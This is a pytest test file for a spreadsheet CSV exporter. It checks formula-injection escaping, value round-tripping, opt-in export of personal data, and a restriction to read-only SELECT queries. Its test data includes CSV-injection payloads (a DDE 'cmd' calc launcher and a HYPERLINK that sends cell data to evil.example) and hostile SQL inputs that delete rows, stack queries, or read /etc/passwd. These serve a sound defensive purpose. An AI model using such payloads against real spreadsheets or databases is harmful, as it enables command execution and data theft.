"""Exports for spreadsheets: nothing in them is a formula, nothing is lost, and nobody is in them unasked."""

from __future__ import annotations

import csv
import re
import stat
import unicodedata
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from orchestration.home import DataHome
from orchestration.publishing.snapshot import publish
from orchestration.publishing.spreadsheet import ExportError, export_csv, main
from tests.publishing.conftest import describe_run

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "  =1+1",
    "\u00a0\u200b\ufeff=1+1",
    "\u3000＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    '"=1+1',
    "'=1+1",
    "“=1+1",
    "\x00=1+1".replace("\x00", "\x01"),
    'harmless";=1+1;"',
    "harmless;=1+1",
    "harmless; \t@x",
    "line one\n=1+1",
    "line one\r\n  -1",
    "a\t=1+1",
    "",
]
HARMLESS = [
    "a=b",
    "1-2",
    "me@example.com",
    "3 + 4",
    "'quoted'",
    'say "hi", he said',
    "Zürich 東京 🚀",
    "a;b",
    "x\ny",
]
INVISIBLE = " \u00a0\u3000\u200b\ufeff\x01"


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet may calculate, whatever it takes for a separator, with or without quotes."""
    plain = unicodedata.normalize("NFKC", cell)
    beginnings = [part.lstrip(INVISIBLE + '"“”')[:1] for part in re.split("[;\t\r\n]", plain)]
    return plain[:1] in ("\t", "\r", "\n") or not set("=+-@").isdisjoint(beginnings)


def restore(cell: str) -> str:
    """What was exported: each apostrophe that stands where one is put is taken away."""
    cell = re.sub("^'(?=[\t\r\n])", "", cell)
    return re.sub(f"(^|[;\t\r\n])'(?=[{INVISIBLE}\"'“”]*[=+\\-@＝＋－＠﹦﹢﹣﹫])", r"\1", cell)


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture
def published(home: DataHome) -> DataHome:
    publish(home, describe_run(home))
    return home


@pytest.fixture
def export_texts(published: DataHome, tmp_path: Path) -> Callable[[list[str]], list[list[str]]]:
    """Texts as a column of a published table, exported and read again."""

    def export(texts: list[str]) -> list[list[str]]:
        with duckdb.connect(published.published / "marts.duckdb") as con:
            con.execute("create or replace table texts (position integer, value varchar)")
            con.executemany("insert into texts values (?, ?)", list(enumerate(texts)))
        export_csv(published, "select * from marts.texts order by position", tmp_path / "out.csv")
        return read_rows(tmp_path / "out.csv")[1:]

    return export


def test_no_text_is_a_formula_and_every_text_comes_back(
    export_texts: Callable[[list[str]], list[list[str]]],
) -> None:
    rows = export_texts(ATTACKS + HARMLESS)
    cells = [cell for _, cell in rows]
    assert [position for position, _ in rows] == [str(n) for n in range(len(cells))]
    assert [cell for cell in cells if is_dangerous(cell)] == []
    assert [text for text in ATTACKS if not is_dangerous(text)] == ["'=1+1", ""]
    assert cells[len(ATTACKS) :] == HARMLESS
    assert [restore(cell) for cell in cells] == ATTACKS + HARMLESS


def test_numbers_stay_numbers_and_null_is_no_text(published: DataHome, tmp_path: Path) -> None:
    query = """
        select -5 as whole, cast(-0.000000001 as decimal(38, 9)) as money, -1.5e-300 as real, true as yes,
            cast(null as varchar) as nothing, '' as blank, date '2026-01-01' as day,
            timestamp '2026-01-01 04:05:06' as instant, interval '-1 day' as span, ['=1', 'a'] as list
    """
    export = export_csv(published, query, tmp_path / "out.csv")
    assert (export.rows, export.columns) == (1, 10)
    assert (tmp_path / "out.csv").read_bytes().decode("utf-8-sig").splitlines()[1] == (
        '-5,-0.000000001,-1.5e-300,true,,"","2026-01-01","2026-01-01 04:05:06","\'-1 day","[\'=1\', a]"'
    )


def test_a_table_is_exported_as_it_stands(published: DataHome, tmp_path: Path) -> None:
    for name in ("dim_team", "marts.dim_team"):
        export_csv(published, name, tmp_path / "team.csv")
        rows = read_rows(tmp_path / "team.csv")
        assert rows[0] == ["team_id", "members", "budget"]
        assert [(row[0], int(row[1]), Decimal(row[2] or 0)) for row in rows[1:]] == [
            ("ant", 5, Decimal(0)),
            ("lion", 0, Decimal("0.000000001")),
            ("zebra", 3, Decimal("1.5")),
        ]
    assert stat.S_IMODE((tmp_path / "team.csv").stat().st_mode) == 0o644
    assert [path.name for path in tmp_path.glob("*.csv")] == ["team.csv"]
    assert not list(tmp_path.glob(".team-*"))


def test_a_column_that_is_named_like_a_formula_is_renamed(published: DataHome, tmp_path: Path) -> None:
    export_csv(published, 'select 1 as "=cmd", 2 as "a ""b"""', tmp_path / "out.csv")
    assert read_rows(tmp_path / "out.csv") == [["'=cmd", 'a "b"'], ["1", "2"]]


def test_people_are_exported_only_when_they_are_asked_for(published: DataHome, tmp_path: Path) -> None:
    out = tmp_path / "people.csv"
    with pytest.raises(ExportError, match="ask for it with --people"):
        export_csv(published, "marts_people.people_spells", out)
    with pytest.raises(duckdb.Error, match="people_spells"):
        export_csv(published, "select * from marts_people.people_spells", out)
    assert not out.exists()
    query = "select person_id, team_id from marts_people.people_spells, marts.dim_team order by all limit 1"
    export_csv(published, query, out, people=True)
    assert read_rows(out)[1:] == [["p_0", "ant"]]
    assert stat.S_IMODE(out.stat().st_mode) == 0o640


@pytest.mark.parametrize(
    ("asked", "problem"),
    [
        ("delete from marts.dim_team", "one SELECT"),
        ("select 1; select 2", "one SELECT"),
        ("copy marts.dim_team to '/dev/stdout'", "one SELECT"),
        ("attach '/tmp/x' as x", "one SELECT"),
        ("select * from read_text('/etc/hostname')", "disabled"),
        ("select * from '/etc/passwd'", "/etc/passwd"),
        ("select 1) to 'x' (format csv) --", "syntax error"),
        ("select 1 -- that is all", None),
        ("nothing_like_it", "nothing_like_it"),
    ],
)
def test_a_query_reads_what_is_published_and_nothing_else(
    published: DataHome, tmp_path: Path, capsys: pytest.CaptureFixture[str], asked: str, problem: str | None
) -> None:
    out = tmp_path / "out.csv"
    out.write_text("before")
    code = main([asked, "--out", str(out), "--home", str(published.root)], {})
    assert (code, out.read_text(encoding="utf-8-sig")) == ((1, "before") if problem else (0, "1\n1\n"))
    assert (problem or "") in capsys.readouterr().err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "out.csv"]


def test_what_cannot_be_written_is_said(home: DataHome, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="nothing is published yet"):
        export_csv(home, "dim_team", tmp_path / "out.csv")
    with pytest.raises(ExportError, match=r"end in \.csv"):
        export_csv(home, "dim_team", tmp_path / "out.xlsx")
    with pytest.raises(ExportError, match="is no folder"):
        export_csv(home, "dim_team", tmp_path / "nowhere" / "out.csv")
